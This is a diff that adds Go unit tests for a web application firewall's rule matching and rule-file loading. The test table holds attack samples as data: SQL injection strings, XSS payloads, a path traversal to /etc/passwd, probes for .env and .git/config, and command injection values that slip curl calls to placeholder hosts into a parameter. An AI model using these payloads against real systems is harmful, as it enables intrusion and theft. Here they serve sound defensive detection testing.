@@ -0,0 +1,144 @@
+package waf
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestBuiltin(t *testing.T) {
+	rs, err := Load([]string{Builtin})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !rs.InspectsBody() {
+		t.Error("builtin rules should inspect bodies")
+	}
+
+	tests := []struct {
+		name        string
+		method      string
+		target      string
+		contentType string
+		body        string
+		userAgent   string
+		want        string // matched rule ID, "" for none
+	}{
+		{name: "plain page", method: "GET", target: "/products?id=42&sort=price"},
+		{name: "search with quotes", method: "GET", target: "/search?q=O%27Reilly+and+sons"},
+		{name: "prose about selecting", method: "POST", target: "/comments", contentType: "text/plain", body: "Select the plan from the list where it says pro; cat lovers welcome"},
+		{name: "json api", method: "POST", target: "/api/orders", contentType: "application/json", body: `{"item":"book","qty":2}`},
+		{name: "onload parameter", method: "GET", target: "/page?onload=true"},
+		{name: "union select", method: "GET", target: "/products?id=1%20UNION%20SELECT%20password%20FROM%20users", want: "sqli-query"},
+		{name: "tautology", method: "GET", target: "/login?user=admin%27%20or%20%271%27=%271", want: "sqli-query"},
+		{name: "time based", method: "GET", target: "/item?id=1%20AND%20SLEEP(5)", want: "sqli-query"},
+		{name: "form sqli", method: "POST", target: "/login", contentType: "application/x-www-form-urlencoded", body: "user=x%27+or+1%3D1+--&pass=x", want: "sqli-body"},
+		{name: "script tag", method: "GET", target: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", want: "xss-query"},
+		{name: "event handler", method: "POST", target: "/comments", contentType: "text/plain", body: `<img src=x onerror=alert(1)>`, want: "xss-body"},
+		{name: "traversal", method: "GET", target: "/download?file=../../etc/passwd", want: "path-traversal-query"},
+		{name: "git directory", method: "GET", target: "/.git/config", want: "sensitive-file"},
+		{name: "env file", method: "GET", target: "/.env", want: "sensitive-file"},
+		{name: "command injection", method: "GET", target: "/ping?host=1.1.1.1;curl%20-s%20evil.example", want: "command-injection-query"},
+		{name: "command substitution", method: "POST", target: "/ping", contentType: "application/json", body: `{"host":"$(curl -s http://evil)"}`, want: "command-injection-body"},
+		{name: "scanner", method: "GET", target: "/", userAgent: "sqlmap/1.7", want: "scanner-user-agent"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := httptest.NewRequest(tt.method, "http://example.com"+tt.target, strings.NewReader(tt.body))
+			if tt.contentType != "" {
+				r.Header.Set("Content-Type", tt.contentType)
+			}
+			if tt.userAgent != "" {
+				r.Header.Set("User-Agent", tt.userAgent)
+			}
+			var body []byte
+			if tt.body != "" {
+				body = []byte(tt.body)
+			}
+			matched := rs.Match(r, body)
+			got := ""
+			if len(matched) > 0 {
+				got = matched[0].ID
+			}
+			if got != tt.want {
+				t.Errorf("first match = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoadFile(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, content string) string {
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+
+	rules := write("rules.yaml", `
+rules:
+  - id: no-admin-posts
+    method: '^POST$'
+    path: '^/admin'
+    headers:
+      X-Forwarded-For: '^203\.0\.113\.'
+  - id: audit-exports
+    action: log
+    path: '^/export'
+`)
+	rs, err := Load([]string{rules})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rs.InspectsBody() || rs.Len() != 2 {
+		t.Errorf("InspectsBody() = %v, Len() = %d; want false, 2", rs.InspectsBody(), rs.Len())
+	}
+
+	r := httptest.NewRequest("POST", "http://example.com/admin/users", nil)
+	if m := rs.Match(r, nil); len(m) != 0 {
+		t.Errorf("without the header: matched %q", m[0].ID)
+	}
+	r.Header.Set("X-Forwarded-For", "203.0.113.7")
+	if m := rs.Match(r, nil); len(m) != 1 || m[0].Action != ActionBlock {
+		t.Errorf("all conditions met: matched %v, want no-admin-posts blocking", m)
+	}
+	r = httptest.NewRequest("GET", "http://example.com/export.csv", nil)
+	if m := rs.Match(r, nil); len(m) != 1 || m[0].Action != ActionLog {
+		t.Errorf("log rule: matched %v", m)
+	}
+
+	if _, err := Load([]string{Builtin, rules}); err != nil {
+		t.Errorf("builtin plus file: %v", err)
+	}
+
+	errs := map[string]string{
+		"missing file":    filepath.Join(dir, "missing.yaml"),
+		"no id":           write("noid.yaml", "rules:\n  - path: '^/x'\n"),
+		"no conditions":   write("empty.yaml", "rules:\n  - id: x\n"),
+		"bad action":      write("action.yaml", "rules:\n  - id: x\n    path: '^/x'\n    action: drop\n"),
+		"bad regexp":      write("regexp.yaml", "rules:\n  - id: x\n    path: '(?<=x)'\n"),
+		"duplicate rules": rules + "," + rules,
+	}
+	for name, src := range errs {
+		if _, err := Load(strings.Split(src, ",")); err == nil {
+			t.Errorf("%s: expected error", name)
+		}
+	}
+}
+
+func TestMatchHeaderValues(t *testing.T) {
+	rs, err := Load([]string{Builtin})
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := httptest.NewRequest("GET", "http://example.com/", nil)
+	r.Header = http.Header{"User-Agent": {"Mozilla/5.0", "Nikto/2.5"}}
+	if m := rs.Match(r, nil); len(m) != 1 {
+		t.Errorf("any header value should match, got %d matches", len(m))
+	}
+}